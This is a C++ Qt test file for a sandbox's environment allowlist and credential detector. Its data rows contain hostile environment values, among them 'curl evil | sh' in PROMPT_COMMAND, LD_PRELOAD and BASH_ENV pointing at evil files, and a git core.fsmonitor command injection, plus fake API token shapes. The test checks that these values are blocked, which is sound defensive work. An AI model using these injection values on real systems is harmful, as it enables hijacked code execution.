// SPDX-License-Identifier: GPL-3.0-or-later
// sandboxEnvironment(): what of the environment a sandboxed command gets. An allowlist by name
// (the defaults and sandbox.environment.allow), and never a value that carries a credential
// (`gatehouse run` with a real sandbox is in tests/app/tst_runenv.cpp).
#include "sandbox/sandboxenvironment.h"
#include "secrets/secretshapes.h"

#include "testenv.h"

#include <QTest>

using namespace gatehouse;
namespace test = gatehouse::test;

class TestSandboxEnvironment final : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void initTestCase() { test::requireIsolatedEnvironment(); }

    void variables_data()
    {
        QTest::addColumn<QString>("name");
        QTest::addColumn<QString>("value");
        QTest::addColumn<QStringList>("allow");
        QTest::addColumn<bool>("passes");
        const QStringList none;
        const auto row = [](const char *title, const char *name, const char *value, const QStringList &allow, bool passes) {
            QTest::newRow(title) << QString::fromLatin1(name) << QString::fromLatin1(value) << allow << passes;
        };
        // The defaults pass.
        row("PATH", "PATH", "/usr/local/bin:/usr/bin:/bin", none, true);
        row("HOME", "HOME", "/home/alice", none, true);
        row("USER", "USER", "alice", none, true);
        row("LANG", "LANG", "en_GB.UTF-8", none, true);
        row("LC_ALL by the LC_* pattern", "LC_ALL", "C.UTF-8", none, true);
        row("LC_TIME by the LC_* pattern", "LC_TIME", "de_DE.UTF-8", none, true);
        row("TERM", "TERM", "xterm-256color", none, true);
        row("TZ", "TZ", "Europe/Berlin", none, true);
        row("GOPATH", "GOPATH", "/home/alice/go", none, true);
        row("CARGO_HOME", "CARGO_HOME", "/home/alice/.cargo", none, true);
        row("VIRTUAL_ENV", "VIRTUAL_ENV", "/home/alice/proj/.venv", none, true);
        row("git identity", "GIT_AUTHOR_EMAIL", "alice@example.org", none, true);
        // Secrets under innocent names (the review's list): not on the list, so not passed.
        row("DATABASE_URL", "DATABASE_URL", "postgres://u:pw@h/db", none, false);
        row("MYSQL_PWD", "MYSQL_PWD", "hunter2", none, false);
        row("DB_PASS", "DB_PASS", "hunter2", none, false);
        row("SMTP_PASS", "SMTP_PASS", "hunter2", none, false);
        row("GITLAB_PAT", "GITLAB_PAT", "glpat-abcdefghij0123456789", none, false);
        row("CI_JOB_JWT", "CI_JOB_JWT", "eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJqb2IifQ.c2ln", none, false);
        row("REDIS_URL", "REDIS_URL", "redis://:pw@cache:6379/0", none, false);
        row("SLACK_WEBHOOK_URL", "SLACK_WEBHOOK_URL", "https://hooks.slack.com/services/T000/B000/XXXX", none, false);
        row("GIT_CONFIG_COUNT", "GIT_CONFIG_COUNT", "1", none, false);
        row("GIT_CONFIG_KEY_0", "GIT_CONFIG_KEY_0", "core.fsmonitor", none, false);
        row("GIT_CONFIG_VALUE_0", "GIT_CONFIG_VALUE_0", "touch /tmp/pwned", none, false);
        row("a plain name with a secret", "FOO", "hunter2", none, false);
        // What changes which program runs: not on the list either.
        row("LD_PRELOAD", "LD_PRELOAD", "/tmp/evil.so", none, false);
        row("LD_LIBRARY_PATH", "LD_LIBRARY_PATH", "/tmp/evil", none, false);
        row("BASH_ENV", "BASH_ENV", "/tmp/evil.sh", none, false);
        row("ENV", "ENV", "/tmp/evil.sh", none, false);
        row("PROMPT_COMMAND", "PROMPT_COMMAND", "curl evil | sh", none, false);
        row("PYTHONSTARTUP", "PYTHONSTARTUP", "/tmp/evil.py", none, false);
        row("PYTHONPATH", "PYTHONPATH", "/tmp/evil", none, false);
        row("NODE_OPTIONS", "NODE_OPTIONS", "--require /tmp/evil.js", none, false);
        row("GIT_SSH_COMMAND", "GIT_SSH_COMMAND", "evil", none, false);
        row("EDITOR", "EDITOR", "vim", none, false);
        row("agent socket", "SSH_AUTH_SOCK", "/run/user/1000/ssh-agent", none, false);
        row("the runtime folder", "XDG_RUNTIME_DIR", "/run/user/1000", none, false);
        row("the session bus", "DBUS_SESSION_BUS_ADDRESS", "unix:path=/run/user/1000/bus", none, false);
        // Named by sandbox.environment.allow: passes, unless its value carries a credential.
        const QStringList foo{QStringLiteral("FOO")};
        row("allowed by name", "FOO", "bar", foo, true);
        row("allowed, with a URL password", "FOO", "https://user:pass@example.org/x", foo, false);
        row("allowed, with a token as the URL's user", "FOO", "https://ghp_0123456789abcdefghijABCDEFGHIJ@github.com/x", foo, false);
        row("allowed, with any user in a URL", "FOO", "https://deploy@example.org/x", foo, false);
        row("allowed, a URL without credentials", "FOO", "https://example.org/x?page=2", foo, true);
        row("allowed, a secret query parameter", "FOO", "https://example.org/cb?access_token=abc", foo, false);
        row("allowed, a signed URL", "FOO", "https://bucket.s3.amazonaws.com/o?X-Amz-Signature=abc", foo, false);
        row("allowed, a private key", "FOO", "-----BEGIN OPENSSH PRIVATE KEY-----\nb3Bl\n-----END OPENSSH PRIVATE KEY-----",
            foo, false);
        const auto token = [&](const char *title, const char *value) { row(title, "FOO", value, foo, false); };
        token("ghp_", "ghp_0123456789abcdefghijABCDEFGHIJ");
        token("gho_", "gho_0123456789abcdefghijABCD");
        token("github_pat_", "github_pat_11ABCDEFG0123456789_abcdefghijklmnop");
        token("glpat-", "glpat-abcdefghij0123456789");
        token("xoxb-", "xoxb-1234567890-abcdefghij");
        token("xoxp-", "xoxp-1234567890-abcdefghij");
        token("sk-", "sk-abcdefghijklmnopqrstuvwx");
        token("sk-ant-", "sk-ant-api03-AbCdEf0123456789_xyz-ABCDEFG");
        token("AKIA", "AKIAIOSFODNN7EXAMPLE");
        token("AIza", "AIzaSyA-0123456789abcdefghijklmnopqrstu");
        token("ya29.", "ya29.a0AfH6SMBx0123456789abcdefghij");
        token("npm_", "npm_0123456789abcdefghijABCDEFGHIJabcdef");
        token("pypi-", "pypi-AgEIcHlwaS5vcmcCJGQ0ZDM0ZjY3LTM1ZjMtNGJkNy1iMmI0LTEyMzQ1Njc4OTAxMgACKlsz");
        token("slack webhook", "https://hooks.slack.com/services/T000/B000/XXXX");
        token("JWT", "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.sig_nature-1");
        token("a token inside a longer value", "--header=Bearer ghp_0123456789abcdefghijABCDEFGHIJ");
        // A default name with a credential value does not pass either.
        row("a default name, a credential value", "LANG", "https://u:p@example.org", none, false);
        row("a default pattern, a secret-looking name", "LC_SESSION_TOKEN", "x", none, false);
        // Patterns of the person's.
        const QStringList myapp{QStringLiteral("MYAPP_*")};
        row("a pattern", "MYAPP_MODE", "fast", myapp, true);
        row("a pattern does not bring a secret-looking name", "MYAPP_TOKEN", "abc", myapp, false);
        row("a pattern does not bring a password", "MYAPP_DB_PASSWORD", "abc", myapp, false);
        row("a pattern matches the prefix only", "OTHER_MYAPP_MODE", "fast", myapp, false);
        row("named exactly, a secret-looking name passes", "MYAPP_TOKEN", "abc",
            QStringList{QStringLiteral("MYAPP_TOKEN")}, true);
        row("names are case-sensitive", "foo", "bar", foo, false);
    }

    void variables()
    {
        QFETCH(QString, name);
        QFETCH(QString, value);
        QFETCH(QStringList, allow);
        QFETCH(bool, passes);
        QProcessEnvironment environment;
        environment.insert(QStringLiteral("PATH"), QStringLiteral("/usr/bin:/bin"));
        environment.insert(name, value);
        QStringList withheld;
        const QProcessEnvironment result = sandbox::sandboxEnvironment(environment, allow, &withheld);
        QCOMPARE(result.contains(name), passes);
        if (passes)
            QCOMPARE(result.value(name), value);
        if (name != QStringLiteral("PATH"))
            QCOMPARE(result.value(QStringLiteral("PATH")), QStringLiteral("/usr/bin:/bin"));
        QVERIFY(!passes || !withheld.contains(name));
    }

    void withheldNamesAreReported()
    {
        // Those allowed by name but held back for their value are named, for the person to see;
        // those not allowed at all are not (they are simply not on the list).
        QProcessEnvironment environment;
        environment.insert(QStringLiteral("FOO"), QStringLiteral("https://user:pass@example.org"));
        environment.insert(QStringLiteral("DATABASE_URL"), QStringLiteral("postgres://u:pw@h/db"));
        environment.insert(QStringLiteral("BAR"), QStringLiteral("plain"));
        QStringList withheld;
        const QProcessEnvironment result =
            sandbox::sandboxEnvironment(environment, {QStringLiteral("FOO"), QStringLiteral("BAR")}, &withheld);
        QCOMPARE(withheld, QStringList{QStringLiteral("FOO")});
        QCOMPARE(result.keys(), QStringList{QStringLiteral("BAR")});
    }

    void nothingElsePasses()
    {
        // Everything of a crowded environment that is not on the list stays out.
        QProcessEnvironment environment;
        for (const char *name : {"AWS_SECRET_ACCESS_KEY", "HARMLESS", "npm_config_registry", "SSH_AGENT_PID", "DISPLAY",
                                 "WAYLAND_DISPLAY", "OLDPWD", "PWD", "SHLVL", "_", "GATEHOUSE_BWRAP"})
            environment.insert(QString::fromLatin1(name), QStringLiteral("x"));
        environment.insert(QStringLiteral("HOME"), QStringLiteral("/home/alice"));
        const QProcessEnvironment result = sandbox::sandboxEnvironment(environment, {});
        QCOMPARE(result.keys(), QStringList{QStringLiteral("HOME")});
    }

    void credentialShapes_data()
    {
        QTest::addColumn<QString>("value");
        QTest::addColumn<bool>("carries");
        QTest::newRow("a path") << QStringLiteral("/usr/lib/sk-tools/bin") << false;
        QTest::newRow("a short sk- word") << QStringLiteral("sk-learn") << false;
        QTest::newRow("a plain URL") << QStringLiteral("https://registry.npmjs.org/") << false;
        QTest::newRow("an scp-like git address") << QStringLiteral("git@github.com:org/repo.git") << false;
        QTest::newRow("an email address") << QStringLiteral("alice@example.org") << false;
        QTest::newRow("a URL password") << QStringLiteral("mysql://root:secret@db/app") << true;
        QTest::newRow("a URL user") << QStringLiteral("https://oauth2@gitlab.example.org") << true;
        QTest::newRow("a discord webhook") << QStringLiteral("https://discord.com/api/webhooks/123/abc") << true;
        QTest::newRow("a stripe key") << QStringLiteral("sk_live_0123456789abcdefghijklmn") << true;
        QTest::newRow("a bearer header value") << QStringLiteral("Authorization: Bearer abc.def-123456") << true;
        QTest::newRow("basic credentials") << QStringLiteral("Basic dXNlcjpwYXNzd29yZA==") << true;
        QTest::newRow("a word basic") << QStringLiteral("basic") << false;
        QTest::newRow("a hugging face token") << QStringLiteral("hf_0123456789abcdefghijklmnopqrstuv") << true;
    }

    void credentialShapes()
    {
        QFETCH(QString, value);
        QFETCH(bool, carries);
        QCOMPARE(secrets::carriesCredential(value), carries);
    }
};

QTEST_GUILESS_MAIN(TestSandboxEnvironment)
#include "tst_sandboxenvironment.moc"
